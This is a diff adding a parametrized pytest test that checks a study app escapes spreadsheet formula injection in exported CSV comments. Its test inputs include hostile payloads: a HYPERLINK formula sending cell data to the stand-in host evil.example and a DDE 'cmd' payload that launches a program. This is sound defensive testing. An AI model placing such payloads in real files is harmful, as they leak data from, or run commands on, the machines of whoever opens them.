@@ -290,6 +290,31 @@ def test_sessions_csv_tells_of_each_session_that_began(hosted: HostedStudy, cloc
     assert [row.finished_at for row in rows[1:]] == ["", "", ""]
 
 
+@pytest.mark.parametrize(
+    ("typed", "kept"),
+    [
+        ('=HYPERLINK("http://evil.example?"&A1,"click")', '\'=HYPERLINK("http://evil.example?"&A1,"click")'),
+        ("+1 for this study", "'+1 for this study"),
+        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+        ("@SUM(1+1)", "'@SUM(1+1)"),
+        ("＝1+1", "'＝1+1"),
+        ("fine;=1+1", "fine;'=1+1"),
+        ('fine; "=1+1', "fine; \"'=1+1"),
+        ("fine,=1+1", "fine,'=1+1"),
+        ("easy - but 2 = 2; mail me@home; -", "easy - but 2 = 2; mail me@home; '-"),
+        ("10-20 images, a+b", "10-20 images, a+b"),
+    ],
+)
+def test_a_comment_is_no_formula_when_a_spreadsheet_opens_the_file(
+    hosted: HostedStudy, typed: str, kept: str
+) -> None:
+    person = Person.begin(hosted, "w1").walk()
+    sessions.comment(hosted, person.token, typed)
+    export(hosted)
+    [row] = read_csv(hosted.config.folder / "live" / "sessions.csv", Session)
+    assert row.comment == kept
+
+
 def test_arrivals_csv_tells_of_everyone_who_opened_the_link(hosted: HostedStudy, clock: Clock) -> None:
     person = Person.begin(hosted, "w1")
     clock.advance(1)
